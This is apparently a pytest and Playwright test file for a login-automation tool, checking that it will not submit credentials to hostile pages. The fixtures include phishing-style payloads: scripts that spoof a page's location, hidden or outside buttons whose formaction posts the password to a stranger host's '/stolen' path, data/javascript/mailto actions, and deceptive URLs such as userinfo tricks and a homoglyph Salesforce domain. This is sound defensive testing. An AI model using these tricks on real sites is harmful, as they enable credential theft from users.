"""Where a password or a code does not belong: pages that lie about where they are, and buttons that send elsewhere."""

from __future__ import annotations

from contextlib import suppress

import pytest
from playwright.sync_api import Page

from pages import Login, Org, Secret, Timeouts
from pages.errors import PageError, Untrusted

from .orgs.server import FORM, Asked, HostileOrg
from .orgs.strangers import PASSWORD, form, scene

PATIENCE = Timeouts(quick=1.5, page=4, save=4)
USER = "admin@org.example"


def log_in(page: Page, url: str) -> None:
    org = Org(page, url, patience=PATIENCE)
    org.open("/")
    org.wait_for(Login).sign_in(USER, Secret(PASSWORD), lambda _: Secret("271828"))


_LIES = {
    "the place of the document": """Object.defineProperty(Node.prototype, 'ownerDocument',
        {get() { return {location: {href: '%s/login'}, baseURI: '%s/'}; }});""",
    "the target of the form": """Object.defineProperty(HTMLFormElement.prototype, 'action',
        {get() { return '%s/login'; }});
        Object.defineProperty(Node.prototype, 'ownerDocument', {get() { return {location: {href: '%s/login'}}; }});""",
    "the way to ask": """Object.getOwnPropertyDescriptor = () => ({get() { return '%s/login'; }});
        Object.defineProperty(Node.prototype, 'ownerDocument', {get() { return {location: {href: '%s/login'}}; }});""",
}


@pytest.mark.parametrize("lie", _LIES.values(), ids=_LIES)
def test_a_page_that_lies_about_where_it_is(page: Page, lie: str) -> None:
    """Where a page is, the browser says: a stranger's script cannot answer for it."""
    home: list[str] = []

    def stranger(asked: Asked) -> None:
        asked.send(FORM.format(before=f"<script>{lie % (home[0], home[0])}</script>", after=""))

    with HostileOrg(stranger, host="stranger.localhost") as other:

        def lead(asked: Asked) -> None:
            asked.redirect(f"{other.url}/login")

        with HostileOrg(lead, host="org.localhost") as org:
            home.append(org.url)
            with pytest.raises(Untrusted, match=r"stranger\.localhost"):
                log_in(page, org.url)
            assert not other.posted


def _outer_button(asked: Asked, there: str) -> None:
    body = form("/login").replace(
        '<input type="submit" id="Login" name="Login" value="Log In">',
        "",
    )
    button = f"<button form=login_form formaction='{there}/stolen' id=Login>Log In</button>"
    asked.send(body.replace("</body>", f"{button}</body>"))


def _hidden_outer_button(asked: Asked, there: str) -> None:
    button = f"<button form=login_form formaction='{there}/stolen' id=first hidden></button>"
    asked.send(form("/login").replace("<body>", f"<body>{button}"))


def _image_button(asked: Asked, there: str) -> None:
    button = f"<input type=image form=login_form formaction='{there}/stolen' alt='Log In'>"
    asked.send(form("/login").replace("<body>", f"<body>{button}"))


def _blob(asked: Asked, _: str) -> None:
    page = form("/login").replace("`", "").replace("</", "<\\/")
    asked.send(f"<script>location = URL.createObjectURL(new Blob([`{page}`], {{type: 'text/html'}}))</script>")


def _data_action(asked: Asked, _: str) -> None:
    asked.send(form("data:text/html,stolen"))


def _script_action(asked: Asked, _: str) -> None:
    asked.send(form("javascript:void(window.stolen = 1)"))


def _mail_action(asked: Asked, _: str) -> None:
    asked.send(form("mailto:thief@stranger.example"))


def _userinfo(asked: Asked, there: str) -> None:
    asked.send(form(there.replace("http://", "http://org.localhost@") + "/stolen"))


def _backslash(asked: Asked, there: str) -> None:
    asked.send(form(f"http:\\\\{there.removeprefix('http://')}\\@org.localhost/stolen"))


def _slashes(asked: Asked, there: str) -> None:
    asked.send(form(f"///{there.removeprefix('http://')}/stolen"))


def _trailing_dot(asked: Asked, _: str) -> None:
    asked.send(form("https://login.salesforce.com./stolen"))


def _idn(asked: Asked, _: str) -> None:
    asked.send(form("https://login.s\u0430lesforce.com/stolen"))


def _second_form_with_the_same_id(asked: Asked, there: str) -> None:
    first = f"<form action='{there}/stolen' id=login_form><input type=submit value='Log In'></form>"
    asked.send(form("/login").replace("<body>", f"<body>{first}"))


@pytest.mark.parametrize(
    "lead",
    [
        _outer_button,
        _hidden_outer_button,
        _image_button,
        _blob,
        _data_action,
        _script_action,
        _mail_action,
        _userinfo,
        _backslash,
        _slashes,
        _trailing_dot,
        _idn,
    ],
)
def test_a_form_that_sends_elsewhere(page: Page, lead: object) -> None:
    """A button outside the form, and an address that is written to be misread, count as where it is sent to."""
    with scene(lead) as there:  # type: ignore[arg-type]
        with pytest.raises(Untrusted):
            log_in(page, there.org.url)
        assert not there.leaked()
        assert not there.org.posted


def test_a_button_of_another_form(page: Page) -> None:
    """The Log In that is pressed is the one of the form that was filled."""
    with scene(_second_form_with_the_same_id) as there:
        with suppress(PageError):
            log_in(page, there.org.url)
        assert not there.stranger.posted


@pytest.mark.parametrize("kind", ["text", "search", "url"])
def test_a_password_that_would_be_seen(page: Page, kind: str) -> None:
    """A field that would show what is typed is no password field, whatever its label and id."""
    with HostileOrg(lambda asked: asked.send(form("/login").replace('type="password"', f'type="{kind}"'))) as org:
        with pytest.raises(PageError):
            log_in(page, org.url)
        assert not org.posted


def test_a_password_that_would_stand_in_the_address(page: Page) -> None:
    """A form that puts what is typed into its address is not filled: addresses are kept and logged."""
    with HostileOrg(lambda asked: asked.send(form("/login").replace('method="post"', 'method="get"'))) as org:
        with pytest.raises(Untrusted, match="address"):
            log_in(page, org.url)
        assert PASSWORD not in page.url


def test_a_form_that_a_script_sends(page: Page) -> None:
    """A form without a method may have a script that posts it: it is filled."""
    sends = """<script>document.forms[0].onsubmit = e => { e.preventDefault();
      fetch('/login', {method: 'POST', body: new URLSearchParams(new FormData(e.target))}) }</script>"""
    by_script = form("/login", after=sends).replace('method="post"', "")
    with HostileOrg(lambda asked: asked.send(by_script)) as org:
        with suppress(PageError):
            log_in(page, org.url)
        assert org.posted
